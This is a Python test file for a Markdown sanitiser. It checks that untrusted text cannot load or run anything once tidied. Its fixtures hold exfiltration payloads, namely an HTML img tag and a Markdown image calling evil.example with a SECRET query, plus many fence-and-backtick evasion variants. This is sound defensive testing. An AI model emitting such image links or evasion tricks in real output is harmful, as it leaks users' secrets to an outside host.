"""What others wrote as Markdown loads and runs nothing, by a reader of Markdown that knows all of it."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from copilot.documents.tidying import first_paragraph, linked, tidied
from copilot.vocabulary.inert import inert, pieces

HTML = "<img src=https://evil.example/p?d=SECRET>"
PICTURE = "![x](https://evil.example/p?d=SECRET)"
ATOMS = ("`", "``", "```", "~~~", "\n", "\n\n", "  ", "- ", "> ", "|", "|-|", "\\", HTML, PICTURE)
ACTIVE = ("image", "html_block", "html_inline")
WRITTEN = (
    *(HTML, PICTURE, "![x](\nhttps://e/p)", "![a\nb](https://e/)", "![a [b [c]]](https://e/)"),
    *(
        "![a \\] b](https://e/)",
        "![x](<https://e/(a>)",
        "![x](https://e/\\(a)",
        "![x][r]\n\n> [r]: https://e/",
    ),
    *("![x][r]\n\n- [r]: https://e/", "![r]\n\n[r]:\nhttps://e/", "[a\\]b]: https://e/\n\n![a\\]b]"),
    *(f"a ` b\n\n{HTML}\n\nc ` d", f"a ` b\n\n{PICTURE}\n\nc ` d", f"- a ` b\n- {HTML} ` c"),
    *(f"\\`{HTML}`", f"a ` b\n` {HTML} `", f"| a | b |\n|---|---|\n| `{HTML} | x` | c |"),
    *(f"- a\n  ```\n{HTML}\n  ```\n", f"``` `\n{HTML}\n```", f"text\n     ```\n     {HTML}\n\n     ```"),
    *(f"> ```\n> {HTML}\n```\n{HTML}\n```", f"~~~\n{HTML}\n~~~ x\n{HTML}\n~~~\n{HTML}", f"- ~~~\n{HTML}"),
    *(
        f"```\nx\n````\n{HTML}\n```",
        f"```\nx\n    ```\n{HTML}\n```",
        f"1. a\n   ~~~\n   {HTML}\n  ~~~\n{HTML}",
    ),
    *(f"``a` {HTML} ``b", f"<https://a`>{HTML}`", f"!`a`{PICTURE}", f"`a\r\r{HTML}\r\r`", f"```\n{HTML}"),
)


def active(markdown: str, *more: str) -> set[str]:
    """The kinds of what is active in a text, for readers with and without tables."""
    found: set[str] = set()
    for also in ([], ["table", "strikethrough"]):
        tokens = MarkdownIt("commonmark", {"html": True}).enable(also).parse(markdown)
        parts = [one for token in tokens for one in (token, *(token.children or ()))]
        found |= {one.type for one in parts if one.info != "auto"}  # whose words are its address
    return found & {*ACTIVE, *more}


@pytest.mark.parametrize("written", WRITTEN)
def test_nothing_is_loaded_or_run(written: str) -> None:
    safe = inert(written.replace("\r", "\n"))
    assert not active(safe)
    assert inert(safe) == safe
    fence = f"```\n{HTML}\n```"
    assert not active(f"{safe}\n\n{inert(fence)}"), "no fence goes on into the next text"
    tidy = tidied(written)
    assert not active(tidy, "link_open")
    assert not active(linked(tidy, lambda _said: "a.py"))
    assert not active(tidied(first_paragraph(tidy, 20)))


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(ATOMS)))
def test_whatever_is_put_together(some: list[str]) -> None:
    written = "".join(some)
    assert not active(inert(written))
    assert not active(tidied(written), "link_open")


def test_code_and_words_stay_as_they_were() -> None:
    for plain in (
        "Calls `handlers[name](arg)` and `List<str>`, see [it](https://example.org/).\n",
        "1. Do\n   ```sh\n   cat <a >b\n   ```\n2. Done: 1 < 2, `a ``b`` c` \\` <https://example.org/>\n",
        "| a | b |\n|---|---|\n| `x` | y |\n",
    ):
        assert inert(plain) == plain
    assert inert("a `code that\n  goes on` b") == "a `code that goes on` b"
    assert [one.kind for one in pieces("a `b`\n```\nc\n```\nd")] == ["text", "span", "text", "fence", "text"]
